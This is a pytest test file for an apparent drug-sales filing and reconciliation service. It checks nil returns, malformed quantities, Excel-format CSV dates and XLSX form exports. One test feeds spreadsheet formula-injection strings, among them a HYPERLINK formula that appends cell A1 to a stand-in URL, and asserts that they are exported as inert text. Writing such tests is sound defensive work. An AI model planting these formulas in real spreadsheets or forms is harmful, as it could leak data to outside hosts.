"""From a review of the filings and forms: what users typed never becomes a formula in the
XLSX the office opens; a quantity that is not a number is a row error, never a 500."""

import io

import pytest
from openpyxl import load_workbook

from tests.reconciliation.scenario import Month

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x.example/","25 mg")'


def formulas(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    return [(ws.title, c.coordinate, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def test_text_a_user_typed_is_never_a_formula_in_the_statutory_forms(county, client_for):
    m = Month(county)
    (b,) = m.batches(1)
    m.ship({b: 10}, day=8, reference='=HYPERLINK("http://x.example/?"&A1,"发票")')
    m.dispense(b, dose=FORMULA)
    admin = client_for(county.office_admin)
    for kind, org in (("usage-register", county.hospital), ("sales-summary", county.wholesaler)):
        r = admin.get(f"/api/forms/{kind}.xlsx?month={m.month:%Y-%m}&organisation={org.pk}")
        assert r.status_code == 200
        assert formulas(r.content) == []
        texts = [c.value for ws in load_workbook(io.BytesIO(r.content)).worksheets for row in ws.iter_rows()
                 for c in row if isinstance(c.value, str)]
        assert any(t.startswith("=HYPERLINK") for t in texts)  # kept, as text


@pytest.mark.parametrize("quantity", ["--3", "①", "1²", "9" * 5000, "1e5"])
def test_an_odd_quantity_is_a_row_error_not_a_500(county, client_for, quantity):
    m = Month(county)
    (b,) = m.batches(1)
    r = client_for(county.clerk).post("/api/filings/sales/", {"month": f"{m.month:%Y-%m}",
                                                               "rows": [m.row(b, quantity)]}, format="json")
    assert r.status_code == 400, (r.status_code, r.content[:200])
    assert r.json()["error"]["code"] == "filing_rows_invalid"


def test_full_width_digits_are_a_quantity(county, client_for):
    m = Month(county)
    (b,) = m.batches(1)
    m.ship({b: 12}, day=8)
    r = client_for(county.clerk).post("/api/filings/sales/", {"month": f"{m.month:%Y-%m}",
                                                               "rows": [m.row(b, "１２")]}, format="json")
    assert r.status_code == 201, r.content
    assert r.json()["total_quantity"] == 12


def test_a_wholesaler_that_sold_nothing_files_a_nil_return(county, client_for):
    import datetime as dt

    from django.core.files.uploadedfile import SimpleUploadedFile

    from audits import filings, periods
    from audits.alerts import rules
    from audits.alerts.models import Alert

    m = Month(county)
    clerk = client_for(county.clerk)
    month = f"{m.month:%Y-%m}"
    # An empty file or empty rows sent by mistake is still refused...
    empty = clerk.post("/api/filings/sales/", {"month": month, "file": SimpleUploadedFile(
        "t.csv", filings.template_csv())}, format="multipart")
    assert (empty.status_code, empty.json()["error"]["code"]) == (400, "filing_empty")
    # ...a nil return with rows is contradictory...
    (b,) = m.batches(1)
    both = clerk.post("/api/filings/sales/", {"month": month, "no_sales": True, "rows": [m.row(b, 3)]},
                      format="json")
    assert both.status_code == 400
    # ...and the declared nil return is a filing of the month.
    r = clerk.post("/api/filings/sales/", {"month": month, "no_sales": True}, format="json")
    assert r.status_code == 201, r.content
    assert (r.json()["no_sales"], r.json()["row_count"], r.json()["total_quantity"], r.json()["version"]) == (
        True, 0, 0, 1)
    status = client_for(county.office_admin).get("/api/filings/status/", {"month": month}).json()["results"]
    assert {row["organisation"]: row["status"] for row in status}[county.wholesaler.pk] == "filed"
    rules.run(today=periods.due_on(m.month, county.jurisdiction) + dt.timedelta(days=1), only=["filings_late"])
    late = Alert.objects.filter(type="filing_late", organisation=county.wholesaler)
    occurrences = set(late.values_list("occurrence", flat=True))  # older months were never filed...
    assert occurrences and all(len(o) == 7 and o[4] == "-" for o in occurrences)
    assert month not in occurrences  # ...this one was
    # Multipart says it too (a form field), and a second one is an amendment like any other.
    again = clerk.post("/api/filings/sales/", {"month": month, "no_sales": "true"}, format="multipart")
    assert (again.status_code, again.json()["error"]["code"]) == (409, "filing_submitted")


def test_a_nil_return_against_shipments_is_a_discrepancy(county, client_for, filings_due):
    m = Month(county)
    (b,) = m.batches(1)
    m.ship({b: 10}, day=8)
    assert client_for(county.clerk).post("/api/filings/sales/", {"month": f"{m.month:%Y-%m}", "no_sales": True},
                                         format="json").status_code == 201
    body = client_for(county.office_admin).get(
        f"/api/reconciliations/?month={m.month:%Y-%m}&jurisdiction=430421").json()
    assert body["summary"].get("shipped_not_filed") == 1


def test_a_csv_saved_by_excel_with_times_on_the_dates_is_read(county, client_for):
    """Excel in a Chinese locale saves a date cell as "2026/11/8 0:00"."""
    from audits.models import SalesFilingLine
    from tests.reconciliation.test_filings import csv_bytes, upload

    m = Month(county)
    (b,) = m.batches(1)
    day = m.month.replace(day=8)
    rows = [dict(m.row(b, 3), date=f"{day.year}/{day.month}/{day.day} 0:00"),
            dict(m.row(b, 4), date=f"{day:%Y-%m-%d} 00:00")]
    r = upload(client_for(county.clerk), m, csv_bytes(rows, encoding="gb18030"), "sales.csv")
    assert r.status_code == 201, r.content
    assert sorted(SalesFilingLine.objects.values_list("sold_on", "quantity")) == [(day, 3), (day, 4)]
